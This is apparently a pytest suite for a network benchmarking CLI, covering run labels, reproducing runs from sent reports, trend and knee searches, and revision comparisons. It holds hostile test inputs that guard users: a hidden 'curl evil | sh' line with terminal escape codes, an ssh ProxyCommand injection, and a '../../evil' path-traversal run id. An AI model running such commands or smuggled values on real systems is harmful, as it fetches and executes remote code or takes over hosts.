"""After a run: labels, a baseline, the same again, a trend, a doctor, and the knee."""

import base64
import io
import json
import re
import shutil
import signal
import subprocess
import sys
import time
import zlib
from pathlib import Path
from types import SimpleNamespace

import pytest
from ports import free_port

from wirespeed.agent.children import is_alive
from wirespeed.analysis import gate
from wirespeed.analysis import trend as trends
from wirespeed.cli import knee, revisions, trend, trust
from wirespeed.errors import InputError
from wirespeed.interrupts import Terminated, signals_as_interrupts
from wirespeed.recipe import rates, read
from wirespeed.report.wording import measure
from wirespeed.template import value_of

FAKES = Path(__file__).parents[1] / "fakes"
PATIENCE_S = 120.0


def test_a_run_is_kept_under_a_name_reproduced_and_followed(checkout):
    recipe = checkout.recipe(connections=[1])
    marks = ("--set", "plan.duration=150ms", "--label", "branch=main", "--note", "first")
    code, _, err = checkout.call("run", recipe, *marks)
    assert code == 0, err
    first = checkout.run_json()
    assert (first["labels"], first["note"]) == ({"branch": "main"}, "first")
    assert first["plan"]["duration_s"] == 0.15
    assert "plan.duration=150ms" in (checkout.latest / "recipe.toml").read_text()
    assert checkout.call("baseline", "save", "main")[0] == 0
    recipe.unlink()  # the run has all that is needed
    code, out, err = checkout.call("reproduce", "main", "--accept-noise")
    assert code == 3, err
    again = checkout.run_json()
    assert again["labels"] == {"reproduces": first["run_id"]}
    assert (again["seed"], again["plan"]) == (first["seed"], first["plan"])
    assert "Not decided: no figure of 1 differs (1 not " in out
    code, out, _ = checkout.call("trend", "--json")
    (series,) = json.loads(out)
    assert [point["run"] for point in series["points"]] == [first["run_id"], again["run_id"]]
    code, out, _ = checkout.call("compare", "main", "latest", "--fail-on", "undecided")
    assert code == 3, "two trials decide nothing"
    code, out, _ = checkout.call("doctor", "latest")
    assert code == 0 and ("every comparison" in out or "try:" in out)
    assert "branch=main first" in checkout.call("runs")[1]


TEXT = """
wirespeed = 2
name = "k"
axes = { connections = [50], stack = ["kernel"] }
[stacks.kernel]
[[process]]
name = "app"
role = "server"
port = { base = 8000 }
argv = ["app"]
[[process]]
name = "gen"
role = "load"
tool = "load"
argv = ["-c", "{{ connections }}", "http://{{ server.addr }}:{{ app.port }}/"]
[[metric]]
name = "rps"
from = "gen"
[[metric]]
name = "latency"
from = "gen"
combine = "histogram"
"""


def test_the_same_recipe_keeps_a_rate(tmp_path):
    recipe, text = rates.at_rates(TEXT, [100, 200])
    assert recipe.axis_values()["rate"] == [100, 200] and recipe.ramps() == ["rate"]
    assert recipe.process[1].argv[:2] == ["-R", rates.SHARE]
    (tmp_path / "r.toml").write_text(text)
    assert read.read(tmp_path / "r.toml") == recipe


@pytest.mark.parametrize(("rate", "shares"), [(7, [3, 2, 2]), (9, [3, 3, 3]), (2, [1, 1, 0])])
def test_several_generators_offer_the_rate_together(rate, shares):
    """Rounded up, three of them offered 9 where 7 was asked for, and 3 for 1."""
    found = [value_of(rates.SHARE, {"rate": rate, "count": 3, "i": i}) for i in range(3)]
    assert found == shares


@pytest.mark.parametrize(
    ("old", "new", "line"),
    [
        ('tool = "load"', 'tool = "ab"', "has no open loop"),
        ('"-c", ', '"-R", "5", "-c", ', "has a rate"),
        ("[50]", "{ ramp = [1, 2] }", "has a ramp already"),
    ],
)
def test_a_recipe_that_cannot_keep_a_rate_is_refused(old, new, line):
    with pytest.raises(InputError, match=line):
        rates.at_rates(TEXT.replace(old, new), [1])


def test_a_trend_names_every_axis_also_of_runs_that_had_one_more(capsys):
    def series(axes):
        return trends.MetricHistory(axes, "rps", [trends.RunMedian("a", "", "", 1.0)])

    both = [series({"connections": 1}), series({"connections": 1, "rate": 777})]
    trend._show(both, measure("rps"), 2)
    shown = capsys.readouterr().out
    assert "rate" in shown and "777" in shown


def test_the_knee_is_between_the_last_rate_that_was_kept_and_the_first_that_was_not():
    tried = {200: "", 400: "", 800: "p99 was 9 ms", 900: ""}
    assert knee._edge(tried) == (400, 800), "a lucky rate above a broken one does not count"
    assert knee._rates(1000, tried) == [480, 560, 640, 720]
    assert knee._edge({}) == (None, None)
    assert knee._rates(1000, {1000: ""})[-1] < 1300, "where nothing broke the search goes on above"


def knee_cell(rps=400.0, p99=None, failed=0):
    """Of three trials, some failed, at the rate 400."""
    figures = {"rps": rps, **({"latency.p99": p99} if p99 else {})}
    trials = tuple(SimpleNamespace(metrics=figures) for _ in range(3 - failed))
    return SimpleNamespace(
        trials=trials,
        failures=f"failed {failed} of 3" if failed else "",
        failure="812 answers were not 2xx",
        median=lambda name: figures.get(name) if trials else None,
    )


@pytest.mark.parametrize(
    ("cell", "why"),
    [
        (knee_cell(p99=4000.0), ""),
        (knee_cell(p99=6000.0), "latency.p99 was 6"),
        (knee_cell(rps=300.0, p99=4000.0), "75% of the asked requests"),
        (knee_cell(p99=4000.0, failed=1), "failed 1 of 3 trials: 812 answers"),
        (knee_cell(failed=3), "failed 3 of 3 trials: 812 answers"),
        (knee_cell(), None),
    ],
)
def test_a_rate_at_which_trials_fail_is_broken_and_one_without_figures_is_not_known(cell, why):
    found = knee._why_broken(cell, 400, "rps", [gate.rule("p99 < 5ms")])
    assert found == why or (why and found.startswith(why))


def test_a_cell_with_fewer_requests_than_generators_is_named_and_the_search_goes_on():
    """A generator got the rate 0 and refused it, which ended the search of all cells."""
    processes = [SimpleNamespace(name="gen", role="load")] * 3
    trial = SimpleNamespace(processes=[*processes, SimpleNamespace(name="app", role="server")])
    cell = SimpleNamespace(axes={"connections": 1}, trials=[trial])
    closed = SimpleNamespace(run=SimpleNamespace(run_id="first"))
    start = knee._Start(cell, 2.0, "rps", closed)
    found = knee._of_cell(None, knee.Search([], "", 1, False), start, [], Path())
    assert (found.kept, found.broke, found.runs) == (None, None, ["first"])
    assert found.why == "too few requests for its generators (3; lower their count)"


def test_the_search_prints_the_units_of_the_tables():
    """Throughput that a recipe measures in MB/s was printed as so many B/s."""
    cell = SimpleNamespace(
        trials=(1,), failures="", median=lambda name: {"rps": 400.0, "throughput": 34.5}.get(name)
    )
    rules = [gate.rule("throughput > 40")]
    why = knee._why_broken(cell, 400, "rps", rules, {"throughput": "MB/s"}.get)
    assert why == "throughput was 34.5 MB/s"


def test_the_search_counts_requests_whatever_the_recipe_names_first():
    """With bytes or a time as the first metric it sent so many requests per second."""
    first = '[[metric]]\nname = "throughput"\nfrom = "gen"\nfield = "bytes_per_second"\n'
    text = TEXT.replace("[[metric]]", first + "[[metric]]", 1)
    assert knee._rate_of(rates.at_rates(text, [1])[0]) == "rps"
    only = TEXT.replace('name = "rps"', 'name = "throughput"\nfield = "bytes_per_second"')
    with pytest.raises(InputError, match="no metric of requests per second"):
        knee._rate_of(rates.at_rates(only, [1])[0])


def test_a_rule_of_the_search_holds_for_the_cells_that_it_means():
    """The rule applied to every cell, and `errors` to valid trials, which have none."""
    slow, fast = (
        SimpleNamespace(axes={"stack": stack}, trials=(), invalid=()) for stack in ("slow", "fast")
    )
    rules = [gate.rule("stack=slow: p99 < 50ms"), gate.rule("stack=fast: p99 < 5ms")]
    search = [[rule.limit for rule in knee._rules_of(cell, rules)] for cell in (slow, fast)]
    assert search == [[50_000.0], [5000.0]]
    with pytest.raises(InputError, match="no --require means stack slow; --only leaves"):
        knee._rules_of(slow, rules[1:])
    cell = knee_cell(p99=4000.0)
    cell.invalid = (SimpleNamespace(metrics={"errors": 3.0}),)
    assert knee._why_broken(cell, 400, "rps", [gate.rule("errors <= 0")]) == "errors was 3"


def test_windows_of_the_search_hold_enough_answers_for_the_quantile():
    p99, mean = gate.rule("p99 < 5ms"), gate.rule("mean < 5ms")
    assert knee._window_s([p99, mean], 100_000) == 1
    assert knee._window_s([p99], 100) == 11
    assert knee._window_s([gate.rule("p99_9 < 5ms")], 100) == knee.WINDOW_MAX_S
    assert knee._window_s([mean], 100) == 0
    recipe, _ = rates.at_rates(TEXT, [100, 200], 11)
    assert recipe.plan.duration == 11


def test_a_report_that_was_sent_is_enough_to_measure_its_run_again(checkout, tmp_path):
    """The page alone, in another folder: the run directory, the recipe and its folder are gone."""
    recipe = checkout.recipe(connections=[1, 2], repeat=2)
    template = recipe.parent / "words.txt"
    template.write_text("port {{ port }}\n")
    text = recipe.read_text()
    text = text.replace('role = "server"', 'role = "server"\ntemplate = { w = "words.txt" }')
    option = "w={{ template('w') }}"
    python = f'"{sys.executable}", '
    recipe.write_text(text.replace(python, f'{python}"-X", "{option}", '))
    marks = ("--only", "connections=2", "--seed", "7")
    code, _, err = checkout.call("run", recipe, *marks)
    assert code == 0, err
    first = checkout.run_json()
    page = tmp_path / "mail" / "their-report.html"
    page.parent.mkdir()
    shutil.copy(checkout.latest / "derived" / "report.html", page)
    shutil.rmtree(checkout.runs)
    shutil.rmtree(recipe.parent)
    recipe.parent.mkdir()
    code, out, err = checkout.call("reproduce", page, "--accept-noise", "--trust")
    assert code == 3, err
    again = checkout.run_json()
    assert (again["seed"], again["plan"]) == (first["seed"], first["plan"])
    assert again["labels"] == {"reproduces": first["run_id"]}
    assert "Not decided: no figure of 1 differs" in out, "two trials decide nothing"
    rendered = next(checkout.latest.rglob("*words*"), None) or next(checkout.latest.rglob("*-w*"))
    assert re.fullmatch(r"port \d+\n", rendered.read_text())


def test_a_page_names_what_differs_between_its_machine_and_this_one(checkout, tmp_path):
    recipe = checkout.recipe(connections=[1])
    assert checkout.call("run", recipe)[0] == 0
    facts = checkout.latest / "run.json"
    told = json.loads(facts.read_text())
    told["facts"]["cpu_model"] = "Another Processor"
    facts.write_text(json.dumps(told))
    page = tmp_path / "theirs.html"
    page.write_text(checkout_page(checkout))
    shutil.rmtree(checkout.latest)
    _, out, _ = checkout.call("reproduce", page, "--accept-noise", "--trust")
    assert "Another Processor" in out


def checkout_page(checkout):
    assert checkout.call("report", "latest")[0] == 0
    return (checkout.latest / "derived" / "report.html").read_text()


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("<html></html>", "not a report with a copy of its run"),
        ('<script type="application/json" id="source">"AAAA"</script>', "is damaged"),
        (None, "its copy of the run is incomplete"),
    ],
)
def test_a_page_that_does_not_carry_its_run_is_one_line(checkout, tmp_path, text, line):
    page = tmp_path / "page.html"
    if text is None:  # a page of somebody's making, whose names lead elsewhere
        evil = {"format": 1, "run": {"run_id": "../../evil", "recipe": "r"}, "plan": [],
                "trials": []}  # fmt: skip
        packed = base64.b64encode(zlib.compress(json.dumps(evil).encode())).decode()
        text = f'<script type="application/json" id="source">"{packed}"</script>'
    page.write_text(text)
    code, _, err = checkout.call("reproduce", page)
    assert (code, err.count("\n")) == (2, 1) and line in err
    assert not checkout.runs.exists()


def page_of_somebody_else(checkout, tmp_path, **site):
    """A report whose run is gone here, with another site when one is named."""
    recipe = checkout.recipe(connections=[1])
    assert checkout.call("run", recipe)[0] == 0
    if site:
        (checkout.latest / "site.json").write_text(json.dumps(site))
    page = tmp_path / "theirs.html"
    page.write_text(checkout_page(checkout))
    shutil.rmtree(checkout.latest)
    return page


def test_what_a_page_names_is_shown_and_not_started_unasked(checkout, tmp_path):
    """Commands of a page from a mail ran as root before anything was printed."""
    page = page_of_somebody_else(checkout, tmp_path)
    code, _, err = checkout.call("reproduce", page, "--accept-noise")
    assert code == 2 and "--trust" in err
    assert "server.py" in err, "the command is shown"
    assert not [path for path in checkout.runs.glob("*-story-*") if path.is_dir()]


def test_a_command_of_a_page_cannot_hide_itself(monkeypatch, capsys):
    """Escape sequences removed the line from the terminal before the question came."""
    line = "  sh -c 'curl evil | sh'\x1b[2K\x1b[1A\u202e"
    monkeypatch.setattr(trust, "effects", lambda *_: ["This run …", line])
    monkeypatch.setattr(sys, "stdin", io.StringIO())
    with pytest.raises(InputError, match="--trust"):
        trust.confirm(None, None, False)
    shown = capsys.readouterr().err
    assert shown.splitlines()[1] == "  sh -c 'curl evil | sh'\\x1b[2K\\x1b[1A\\u202e"


def test_a_pages_site_of_other_machines_is_never_used(checkout, tmp_path):
    """Its ssh options may hold a ProxyCommand, which ssh starts before it connects."""
    proof = tmp_path / "proof"
    options = ["-o", f"ProxyCommand=touch {proof}"]
    site = {"kind": "ssh", "options": options, "server": {"host": "a"}, "load": {"host": "a"}}
    page = page_of_somebody_else(checkout, tmp_path, **site)
    for words in ([], ["--trust"]):
        code, _, err = checkout.call("reproduce", page, "--accept-noise", *words)
        assert code == 2 and "name a site of yours with --site" in err
    assert not proof.exists()


@pytest.fixture
def repository(checkout):
    """A server in two commits; its build writes the program that is started."""

    def git(*words):
        subprocess.run(
            ["git", "-c", "user.name=a", "-c", "user.email=a@example.org", *words],
            cwd=checkout.root, check=True, capture_output=True,
        )  # fmt: skip

    git("init", "-q")
    for number in (1, 2):
        (checkout.root / "source.sh").write_text(
            f"#!/bin/sh\n# build {number}\nexec {sys.executable} {FAKES / 'server.py'} --port $1\n"
        )
        git("add", "source.sh")
        git("commit", "-qm", f"build {number}")
    return checkout


#: The pairs of a comparison, of a second: nothing is found out about these two servers.
SHORT_PAIRS = """
from wirespeed.recipe import draft
full = draft.comparison
draft.comparison = lambda made: full(made).replace("[plan]", '[plan]\\nduet = { pair = "1s" }')
"""


def test_two_revisions_are_built_and_compared_and_a_comment_is_written(repository, tmp_path):
    checkout = repository
    port = free_port()
    words = ["compare", "--rev", "HEAD~1", "--rev", "HEAD", "--run", "./serve {port}",
             "--build", "cp source.sh serve && chmod +x serve", "--port", port, "--connections", 1,
             "--repeat", 3, "--duration", "200ms", "--accept-noise"]  # fmt: skip
    words += ["--ci", tmp_path / "ci"]
    code, _, err = checkout.call(*words, first=SHORT_PAIRS)
    assert code == 0, err
    run = checkout.run_json()
    assert set(run["labels"]) == {"base", "head"} and len(set(run["labels"].values())) == 2
    page = (checkout.latest / "derived" / "report.html").read_text()
    assert f"<h1>head against base: ./serve {port}</h1>" in page, "without the work trees"
    assert {trial["axes"]["variant"] for trial in checkout.trials()} == {"base", "head"}
    text = (tmp_path / "ci" / "comment.md").read_text()
    assert run["labels"]["base"] in text and "Performance: " in text
    listed = subprocess.run(["git", "worktree", "list"], cwd=checkout.root, capture_output=True,
                            text=True, check=True).stdout  # fmt: skip
    assert len(listed.splitlines()) == 1, "the work trees are gone"
    assert not (checkout.root / "serve").exists(), "nothing was built in the user's own tree"


def test_a_program_of_a_revision_may_have_a_space_in_its_path(tmp_path, monkeypatch):
    """It was looked for under the first of its words."""
    monkeypatch.chdir(tmp_path)
    tree = tmp_path / "base"
    (tree / "my tools").mkdir(parents=True)
    (tree / "my tools" / "serve").touch()
    words = [str(tree / "my tools" / "serve"), "--port", "1"]
    assert revisions._started(tree, "'./my tools/serve' --port 1") == words
    with pytest.raises(InputError, match=r"there is no \./tools/other in base after its build"):
        revisions._started(tree, "./tools/other")


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
def test_a_stop_while_a_revision_is_built_leaves_no_work_tree_and_no_program(
    repository, tmp_path, number
):
    pid_file = tmp_path / "pid"
    build = f"sh -c 'echo $$ > {pid_file}.new && mv {pid_file}.new {pid_file} && exec sleep 600'; :"
    process = repository.start("compare", "--rev", "HEAD~1", "--rev", "HEAD", "--run", "./serve",
                               "--build", build)  # fmt: skip
    deadline = time.monotonic() + PATIENCE_S
    while not pid_file.exists():
        assert time.monotonic() < deadline and process.poll() is None
        time.sleep(0.01)
    process.send_signal(number)
    _, err = process.communicate(timeout=PATIENCE_S)
    assert process.returncode == {signal.SIGTERM: 143, signal.SIGINT: 130}[number]
    assert err.splitlines()[-1] == "wirespeed: stopped"
    listed = subprocess.run(["git", "worktree", "list"], cwd=repository.root, capture_output=True,
                            text=True, check=True).stdout  # fmt: skip
    assert len(listed.splitlines()) == 1, "the work trees are gone"
    built = int(pid_file.read_text())
    while is_alive(built):
        assert time.monotonic() < deadline, "the build was ended"
        time.sleep(0.01)


def test_a_stop_at_the_moment_in_which_a_build_is_started_ends_it(tmp_path, monkeypatch):
    """The shell was at work before its parent knew it, and built on after the stop."""
    begun, start = [], subprocess.Popen

    def started(*words, **more):
        begun.append(start(*words, **more))
        signal.raise_signal(signal.SIGTERM)
        return begun[0]

    monkeypatch.setattr(subprocess, "Popen", started)
    with pytest.raises(Terminated), signals_as_interrupts():
        revisions._build(tmp_path, "HEAD", "sleep 600")
    assert begun[0].returncode == -signal.SIGKILL


def test_a_stopped_comparison_of_revisions_names_no_way_to_go_on_that_does_not_exist(repository):
    """It printed a `--resume` whose programs went away with the work trees."""
    port = free_port()
    process = repository.start(
        "compare", "--rev", "HEAD~1", "--rev", "HEAD", "--run", "./serve {port}", "--build",
        "cp source.sh serve && chmod +x serve", "--port", port, "--duration", "200ms",
        "--accept-noise", "--method", "trials", "--repeat", 50,
    )  # fmt: skip
    repository.wait_for_trials(1, process)
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=PATIENCE_S)
    assert process.returncode == 130
    assert "--resume" not in err
    run = repository.latest.name
    assert f"finished trials are kept in {run}; the work trees are removed" in err


REMOVAL = """
from pathlib import Path
from wirespeed.cli import revisions
from wirespeed.interrupts import signals_as_interrupts
try:
    with signals_as_interrupts(), revisions._worktrees([(Path(n), "HEAD") for n in "ab"]):
        pass
except KeyboardInterrupt:
    raise SystemExit(130)
"""


def test_ctrl_c_while_a_work_tree_is_made_leaves_none(repository, tmp_path):
    """Git was killed while its work tree was locked: it stayed registered, and no prune took it."""
    real, (attributes, stand_in) = shutil.which("git"), (
        repository.root / ".git" / "info" / "attributes", tmp_path / "bin" / "git",
    )  # fmt: skip
    attributes.parent.mkdir(exist_ok=True)
    attributes.write_text("* filter=slow\n")
    for word, value in (("smudge", f"touch {tmp_path}/begun; sleep 600"), ("required", "true")):
        subprocess.run([real, "config", f"filter.slow.{word}", value], cwd=repository.root,
                       check=True)  # fmt: skip
    stand_in.parent.mkdir()
    waits = f"until test -e {tmp_path}/begun; do sleep 0.05; done"
    stand_in.write_text(
        f'#!/bin/sh\ntest "$2" = add && {{ ({waits}; kill -s INT "$PPID") >&2 2>/dev/null & }}\n'
        f'exec {real} "$@"\n'
    )
    stand_in.chmod(0o755)
    path = f"{stand_in.parent}:{repository.environment['PATH']}"
    done = subprocess.run(
        [sys.executable, "-c", REMOVAL], cwd=repository.root, check=False,
        env={**repository.environment, "PATH": path}, capture_output=True, text=True,
        start_new_session=True, timeout=PATIENCE_S,
    )  # fmt: skip
    assert done.returncode == 130, done.stderr
    assert not list((repository.root / ".git" / "worktrees").glob("*"))
    assert "stays registered" not in done.stderr


def test_ctrl_c_while_work_trees_are_removed_leaves_none(repository, tmp_path):
    """Git and its caller got it, and a work tree stayed registered."""
    git = shutil.which("git")
    (tmp_path / "bin").mkdir()
    stand_in = tmp_path / "bin" / "git"
    stand_in.write_text(  # a terminal signals the whole group of its foreground process
        f'#!/bin/sh\ntest "$2" = remove && kill -s INT -- "-$PPID"\nexec {git} "$@"\n'
    )
    stand_in.chmod(0o755)
    path = f"{stand_in.parent}:{repository.environment['PATH']}"
    done = subprocess.run(
        [sys.executable, "-c", REMOVAL], cwd=repository.root, check=False,
        env={**repository.environment, "PATH": path}, capture_output=True, text=True,
        start_new_session=True,
    )  # fmt: skip
    assert done.returncode == 130, done.stderr
    listed = subprocess.run(["git", "worktree", "list"], cwd=repository.root, capture_output=True,
                            text=True, check=True).stdout  # fmt: skip
    assert len(listed.splitlines()) == 1, "the work trees are gone"


@pytest.mark.parametrize(
    ("words", "code", "line"),
    [
        (["--rev", "HEAD", "--rev", "gone", "--run", "./serve"], 2, "--rev gone: not a revision"),
        (["--rev", "HEAD~1", "--rev", "HEAD", "--run", "./serve", "--build", "exit 7"], 1,
         "the build of HEAD~1 failed (exit code 7)"),
        (["--rev", "HEAD~1", "--rev", "HEAD", "--run", "./serve"], 2,
         "there is no ./serve in base"),
        (["--rev", "HEAD~1", "--rev", "HEAD", "--run", "./serve", "--build", "exit 7", "--fail-on",
          "wrose"], 2, "unknown value 'wrose'"),
        (["--rev", "HEAD~1", "--rev", "HEAD", "--run", "./serve", "--build", "exit 7", "--duration",
          "2x"], 2, "--duration: "),
        (["--rev", "HEAD", "--run", "./serve"], 2, "--rev BASE --rev NEW with one --run"),
        (["--rev", "HEAD", "--rev", "@", "--run", "./serve", "--build", "exit 7", "--fail-on",
          "loss"], 2, "--rev HEAD and --rev @ are the same commit"),
    ],
)  # fmt: skip
def test_a_revision_that_cannot_be_measured_is_one_line(repository, words, code, line):
    found, _, err = repository.call("compare", *words)
    assert found == code and line in err
    assert not repository.runs.exists()
